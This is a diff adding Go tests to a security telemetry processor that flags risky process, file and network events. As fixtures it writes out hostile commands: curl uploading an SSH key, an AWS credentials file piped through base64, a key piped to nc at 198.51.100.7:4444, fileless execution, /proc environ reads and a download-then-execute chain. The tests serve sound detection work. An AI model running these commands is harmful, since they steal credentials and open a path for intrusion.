@@ -5,6 +5,7 @@ import (
 	"encoding/binary"
 	"encoding/hex"
 	"os/user"
+	"slices"
 	"strconv"
 	"testing"
 	"time"
@@ -504,4 +505,190 @@ func TestSelfTelemetry(t *testing.T) {
 	assert.Equal(t, int64(1), m.Data.(metricdata.Gauge[int64]).DataPoints[0].Value)
 	_, err = tel.GetMetric(metricEvicted)
 	require.NoError(t, err)
+}
+
+// scoreRecs runs records of one session through a fresh processor and
+// returns the attributes of each scored record, in order.
+func scoreRecs(t *testing.T, session pcommon.TraceID, recs ...rec) []pcommon.Map {
+	t.Helper()
+	s := newPipelines(t, testConfig(), testSettings(t), true, false)
+	require.NoError(t, s.lp.ConsumeLogs(context.Background(), logsOf(session, recs...)))
+	lrs := s.logs.AllLogs()[0].ResourceLogs().At(0).ScopeLogs().At(0).LogRecords()
+	out := make([]pcommon.Map, lrs.Len())
+	for i := range out {
+		out[i] = lrs.At(i).Attributes()
+	}
+	return out
+}
+
+func rulesOf(t *testing.T, a pcommon.Map) []string {
+	t.Helper()
+	if v, ok := a.Get(semconv.RiskRules); ok {
+		return strs(v)
+	}
+	return nil
+}
+
+func withAttrs(r rec, kv map[string]any) rec {
+	for k, v := range kv {
+		r.attrs[k] = v
+	}
+	return r
+}
+
+func changeRec(name string, at float64, pid int64, path string, kv map[string]any) rec {
+	r := rec{name, at, pid, map[string]any{
+		semconv.ProcessExecutablePath: "/usr/bin/mv", semconv.FilePath: path, semconv.FileResult: 0,
+		semconv.ProcessUserID: 0, semconv.ProcessWorkingDirectory: "/root/proj",
+	}}
+	return withAttrs(r, kv)
+}
+
+// Identity: a read of a hard link to a key is a read of the key.
+func TestCanonicalPathFromPdata(t *testing.T) {
+	got := scoreRecs(t, session1,
+		execRec(0, 100, "node", "cli.js"),
+		withAttrs(openRec(1, 101, "/usr/bin/python3", "/tmp/notes.txt"), map[string]any{semconv.FileCanonicalPath: "/root/.ssh/id_ed25519"}),
+		rec{semconv.EventNetConnect, 2, 101, map[string]any{semconv.NetworkPeerAddress: "198.51.100.7", semconv.NetworkPeerPort: 443}},
+	)
+	assert.Equal(t, "file.ssh_key", attrOf(t, got[1], semconv.SecurityRuleName).Str())
+	assert.Contains(t, rulesOf(t, got[2]), "chain.exfiltration", "the alias read feeds the chain inside the process")
+}
+
+func TestProcSecretsFromPdata(t *testing.T) {
+	got := scoreRecs(t, session1,
+		withAttrs(openRec(1, 7, "/usr/bin/cat", "/proc/4321/environ"), map[string]any{semconv.FileProcTargetPID: 4321}),
+		openRec(1, 7, "/usr/bin/cat", "/proc/4321/task/4322/mem"),
+		openRec(1, 7, "/usr/bin/cat", "/proc/self/environ"),
+		openRec(1, 7, "/usr/bin/cat", "/proc/7/environ"),
+		openRec(1, 7, "/usr/bin/cat", "/proc/4321/cmdline"),
+	)
+	for i, want := range []bool{true, true, false, false, false} {
+		assert.Equal(t, want, slices.Contains(rulesOf(t, got[i]), "file.process_secrets"), "record %d", i)
+	}
+	assert.Equal(t, "high", attrOf(t, got[0], semconv.RiskLevel).Str())
+	assert.Equal(t, int64(0), attrOf(t, got[2], semconv.RiskScore).Int())
+}
+
+func TestWhatRanFromPdata(t *testing.T) {
+	const ld = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
+	fileless := execRec(1, 10, "/memfd:stage2 (deleted)", "stage2")
+	fileless.attrs[semconv.ProcessFileless] = true
+	loader := execRec(2, 11, ld, "/usr/bin/curl", "-d", "@/root/.ssh/id_ed25519", "http://x")
+	loader.attrs[semconv.ProcessCommandArgs] = []string{"ld-linux-x86-64.so.2", "/usr/bin/curl", "-d", "@/root/.ssh/id_ed25519", "http://x"}
+	loader.attrs[semconv.ProcessProgram] = "/usr/bin/curl"
+	args := []string{"curl"}
+	for i := 0; i < 600; i++ {
+		args = append(args, "-H", "X-Pad: "+strconv.Itoa(i))
+		if i == 299 {
+			args = append(args, "…")
+		}
+	}
+	args = append(args, "-d", "@~/.ssh/id_ed25519", "http://x")
+	cut := execRec(3, 12, args...)
+	cut.attrs[semconv.ArgsTruncated] = true
+	got := scoreRecs(t, session1, fileless, loader, cut)
+
+	assert.Equal(t, "exec.fileless", attrOf(t, got[0], semconv.SecurityRuleName).Str())
+	assert.Equal(t, int64(80), attrOf(t, got[0], semconv.RiskScore).Int())
+	assert.Subset(t, rulesOf(t, got[1]), []string{"argv.upload_sensitive", "exec.loader", "argv.curl_upload", "binary.transfer"})
+	assert.Equal(t, "argv.upload_sensitive", attrOf(t, got[1], semconv.SecurityRuleName).Str())
+	assert.Contains(t, rulesOf(t, got[2]), "argv.upload_sensitive", "the tail of a cut argv")
+}
+
+// cat ~/.aws/credentials | base64, with the two execs in either order.
+func TestPipelineFromPdata(t *testing.T) {
+	cat := execRec(1, 20, "cat", "-")
+	cat.attrs[semconv.ProcessStdoutPipe] = 5551
+	b64 := execRec(1, 21, "base64")
+	b64.attrs[semconv.ProcessStdinPipe] = 5551
+	read := openRec(1.1, 20, "/usr/bin/cat", "/root/.aws/credentials")
+	for name, recs := range map[string][]rec{"cat first": {cat, b64, read}, "base64 first": {b64, cat, read}} {
+		t.Run(name, func(t *testing.T) {
+			got := scoreRecs(t, session1, recs...)
+			assert.Contains(t, rulesOf(t, got[2]), "flow.encode_sensitive")
+			assert.Contains(t, []string{"high", "critical"}, attrOf(t, got[2], semconv.RiskLevel).Str())
+		})
+	}
+	// cat key | nc: one flow, so the read and the connect are a chain.
+	nc := execRec(1, 22, "nc", "198.51.100.7", "4444")
+	nc.attrs[semconv.ProcessStdinPipe] = 5551
+	got := scoreRecs(t, session1, nc, cat, openRec(1.1, 20, "/usr/bin/cat", "/root/.ssh/id_rsa"),
+		rec{semconv.EventNetConnect, 1.2, 22, map[string]any{semconv.NetworkPeerAddress: "198.51.100.7", semconv.NetworkPeerPort: 4444}})
+	assert.Contains(t, rulesOf(t, got[3]), "chain.exfiltration")
+}
+
+func TestFileChangesFromPdata(t *testing.T) {
+	got := scoreRecs(t, session1,
+		changeRec(semconv.EventFileLink, 1, 5, "/root/.ssh/id_rsa", map[string]any{semconv.FileNewPath: "/tmp/k"}),
+		changeRec(semconv.EventFileRename, 1, 5, "/root/.ssh/id_rsa", map[string]any{semconv.FileNewPath: "/tmp/k", semconv.FileResult: -13}),
+		changeRec(semconv.EventFileRename, 1, 5, "/tmp/rc", map[string]any{semconv.FileNewPath: "/root/.bashrc"}),
+		changeRec(semconv.EventFileMount, 1, 5, "/root/.aws", map[string]any{semconv.FileMountPoint: "/tmp/m", semconv.FileMountFlags: "MS_BIND|MS_REC"}),
+		changeRec(semconv.EventFileMount, 1, 5, "tmpfs", map[string]any{semconv.FileMountPoint: "/root/.ssh", semconv.FileMountFlags: "MS_NOSUID|MS_NODEV"}),
+		changeRec(semconv.EventFileUnlink, 1, 5, "/root/.bashrc", nil),
+		changeRec(semconv.EventFileUnlink, 1, 5, "/tmp/x", map[string]any{semconv.FileCanonicalPath: "/root/.kube/config"}),
+		rec{semconv.EventFileOpen, 2, 6, map[string]any{semconv.ProcessExecutablePath: "/usr/bin/curl", semconv.FilePath: "/tmp/payload",
+			semconv.FileFlags: "O_WRONLY|O_CREAT|O_TRUNC", semconv.FileResult: 3}},
+		changeRec(semconv.EventFileChmod, 3, 7, "/tmp/payload", map[string]any{semconv.FileMode: "0755"}),
+		changeRec(semconv.EventFileChmod, 3, 7, "/tmp/payload", map[string]any{semconv.FileMode: "0644"}),
+		changeRec(semconv.EventFileChmod, 3, 7, "/tmp/payload", map[string]any{semconv.FileMode: "0700", semconv.FileResult: -1}),
+		execRec(4, 8, "/tmp/payload"),
+	)
+	want := []struct {
+		top   string
+		rules []string
+	}{
+		{"file.ssh_key", []string{"file.sensitive_alias", "file.ssh_key"}},
+		{"", nil},
+		{"file.persistence", []string{"file.persistence"}},
+		{"file.cloud_credentials", []string{"file.sensitive_alias", "file.cloud_credentials"}},
+		{"file.ssh_key", []string{"file.ssh_key", "file.persistence"}},
+		{"file.sensitive_change", []string{"file.sensitive_change"}},
+		{"file.sensitive_change", []string{"file.sensitive_change"}},
+		{"", nil},
+		{"chain.download_exec", []string{"chain.download_exec", "file.chmod_exec"}},
+		{"", nil},
+		{"", nil},
+		{"chain.download_exec", []string{"chain.download_exec"}},
+	}
+	for i, w := range want {
+		if w.top == "" {
+			assert.Equal(t, int64(0), attrOf(t, got[i], semconv.RiskScore).Int(), "record %d: %v", i, rulesOf(t, got[i]))
+			continue
+		}
+		assert.Equal(t, w.top, attrOf(t, got[i], semconv.SecurityRuleName).Str(), "record %d", i)
+		assert.Subset(t, rulesOf(t, got[i]), w.rules, "record %d", i)
+	}
+}
+
+func TestEveryKindHasAnEventName(t *testing.T) {
+	for k := engine.Kind(0); k < engine.NumKinds; k++ {
+		assert.NotEmpty(t, kindNames[k], "kind %d", k)
+		if k != engine.KindOther {
+			assert.Equal(t, k, engine.KindOf(kindNames[k]))
+		}
+	}
+}
+
+func TestModeAndBoolAttributes(t *testing.T) {
+	for _, c := range []struct {
+		v    pcommon.Value
+		mode uint32
+		ok   bool
+	}{
+		{pcommon.NewValueStr("0755"), 0o755, true},
+		{pcommon.NewValueStr("755"), 0o755, true},
+		{pcommon.NewValueStr("4755"), 0o4755, true},
+		{pcommon.NewValueStr("rwx"), 0, false},
+		{pcommon.NewValueInt(0o700), 0o700, true},
+		{pcommon.NewValueBool(true), 0, false},
+	} {
+		m, ok := modeOf(c.v)
+		assert.Equal(t, c.ok, ok, c.v.AsString())
+		assert.Equal(t, c.mode, m, c.v.AsString())
+	}
+	assert.True(t, boolOf(pcommon.NewValueBool(true)))
+	assert.True(t, boolOf(pcommon.NewValueStr("true")))
+	assert.False(t, boolOf(pcommon.NewValueStr("no")))
+	assert.False(t, boolOf(pcommon.NewValueInt(1)))
 }
